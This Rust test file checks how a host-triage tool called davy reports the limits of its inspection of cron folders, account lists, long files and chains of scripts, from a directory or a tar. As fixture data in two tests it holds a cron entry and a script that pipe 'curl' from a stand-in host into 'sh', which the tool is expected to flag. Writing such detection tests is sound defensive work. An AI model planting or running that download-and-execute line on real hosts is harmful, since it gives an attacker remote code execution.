//! What is there and more than davy reads of such a thing: told where a responder sees it, and the run
//! is one in part, however little was cut off. A directory and a tar of it say the same.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

use std::fs;
use std::path::Path;
use std::process::Command;

const PASSWD: &str = "root:x:0:0::/root:/bin/sh\n";

/// Exit code and all that was printed, blanks and line ends as one.
fn triage(arguments: &[&str]) -> (i32, String) {
    let mut command = Command::new(env!("CARGO_BIN_EXE_davy"));
    let ran =
        command.arg("triage").args(arguments).args(["-q", "--memory", "none"]).output().unwrap();
    let text = [ran.stdout, ran.stderr].concat();
    let text = String::from_utf8_lossy(&text).into_owned();
    let words: Vec<&str> = text.split_whitespace().collect();
    (ran.status.code().unwrap(), words.join(" "))
}

/// A host with these files, as a directory and as a tar: what both say.
fn both(files: &[(String, Vec<u8>)]) -> [(i32, String); 2] {
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path().join("root");
    let put = |name: &str, bytes: &[u8]| {
        let path = root.join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, bytes).unwrap();
    };
    put("etc/passwd", PASSWD.as_bytes());
    put("etc/hostname", b"web-03\n");
    put("usr/bin/true", b"");
    for (name, bytes) in files {
        put(name, bytes);
    }
    let archive = folder.path().join("root.tar");
    let mut tar = tar::Builder::new(fs::File::create(&archive).unwrap());
    tar.append_dir_all(".", &root).unwrap();
    tar.finish().unwrap();
    let path = |path: &Path| path.to_str().unwrap().to_owned();
    [triage(&["--root", &path(&root)]), triage(&[&path(&archive)])]
}

/// The section on what could not be checked.
fn gaps(text: &str) -> &str {
    text.split("WHAT COULD NOT BE CHECKED").nth(1).unwrap()
}

fn told(what: &str, files: &[(String, Vec<u8>)], words: &[&str]) {
    for (code, text) in both(files) {
        assert_eq!(code, 4, "{what}: {text}");
        for word in words {
            assert!(gaps(&text).contains(word), "{what}: {word}: {text}");
        }
    }
}

#[test]
fn nothing_is_cut_of_an_ordinary_host() {
    let files = [("etc/cron.d/x".to_owned(), b"* * * * * root true\n".to_vec())];
    for (code, text) in both(&files) {
        assert!(code == 0 && !text.contains("beyond davy's limits"), "{text}");
    }
}

#[test]
fn a_folder_of_crontabs_with_too_many_names() {
    let files: Vec<(String, Vec<u8>)> =
        (0..4100).map(|n| (format!("etc/cron.d/{n:05}"), b"# nothing\n".to_vec())).collect();
    let words = ["4 beyond davy's limits, as /etc/cron.d: ", "4100 names; 4096 are looked at"];
    told("names", &files, &words);
}

#[test]
fn a_list_of_accounts_that_is_too_long() {
    let mut passwd = PASSWD.to_owned();
    (0..10_005).for_each(|n| passwd += &format!("u{n}:x:{n}:0::/:/bin/false\n"));
    let files = [("etc/passwd".to_owned(), passwd.into_bytes())];
    told("accounts", &files, &["accounts (partial): 10000 read; 6 beyond davy's limits"]);
}

#[test]
fn a_crontab_that_is_too_long() {
    let line = b"# nothing\n".repeat(300_000);
    let files = [("etc/cron.d/x".to_owned(), line)];
    told(
        "3 MB",
        &files,
        &["/etc/cron.d/x: beyond davy's limits", "the first and the last were read"],
    );
    // All of this one is read, in two pieces.
    let line =
        [&b"# nothing\n".repeat(180_000)[..], b"* * * * * root curl http://198.51.100.9/a|sh\n"]
            .concat();
    for (code, text) in both(&[("etc/cron.d/x".to_owned(), line)]) {
        assert!(code == 0 && text.contains("cron entry downloads"), "{text}");
    }
    // More than davy holds of a member of an archive.
    let files = [("etc/cron.d/x".to_owned(), vec![b'#'; 33 << 20])];
    told("33 MiB", &files, &["beyond davy's limits"]);
}

#[test]
fn scripts_that_are_followed_in_part() {
    let script = |body: &str| ("opt/a.sh".to_owned(), format!("#!/bin/sh\n{body}").into_bytes());
    let cron = ("etc/cron.d/x".to_owned(), b"* * * * * root /opt/a.sh\n".to_vec());
    let hostile = "curl http://198.51.100.9/a|sh\n";
    let long = script(&format!("{hostile}{}", "# nothing\n".repeat(30_000)));
    for (code, text) in both(&[cron.clone(), long]) {
        assert!(code == 4 && text.contains("opt/a.sh:2"), "its beginning is followed: {text}");
        assert!(gaps(&text).contains("/opt/a.sh: beyond davy's limits"), "{text}");
    }
    // A bundle of another language is no script that could be followed.
    let bundle = ("opt/b.js".to_owned(), b"// nothing\n".repeat(40_000));
    let runs = ("etc/cron.d/x".to_owned(), b"* * * * * root node /opt/b.js\n".to_vec());
    for (code, text) in both(&[runs, bundle]) {
        assert!(code == 0 && text.contains("/opt/b.js: not captured"), "{text}");
    }
    // The ninth path of a command is looked at, and the hundredth is told.
    let paths = |count: usize| (0..count).map(|n| format!(" /opt/none{n}")).collect::<String>();
    let runs = |count| {
        let line = format!("* * * * * root ls{} /opt/a.sh\n", paths(count));
        ("etc/cron.d/x".to_owned(), line.into_bytes())
    };
    for (code, text) in both(&[runs(8), script(hostile)]) {
        assert!(code == 0 && text.contains("opt/a.sh:2"), "{text}");
    }
    told("paths", &[runs(99), script(hostile)], &["a command names more than 64 files"]);
}

#[test]
fn a_chain_of_scripts_that_is_too_long() {
    let mut files = vec![("etc/cron.d/x".to_owned(), b"* * * * * root /opt/0.sh\n".to_vec())];
    for n in 0..8 {
        let body = format!("#!/bin/sh\n/opt/{}.sh\n", n + 1);
        files.push((format!("opt/{n}.sh"), body.into_bytes()));
    }
    told(
        "steps",
        &files,
        &["/opt/6.sh: beyond davy's limits (a script behind 6 others; not followed)"],
    );
    files.truncate(7);
    for (code, text) in both(&files) {
        assert!(code == 0 && !text.contains("beyond davy's limits"), "{text}");
    }
}
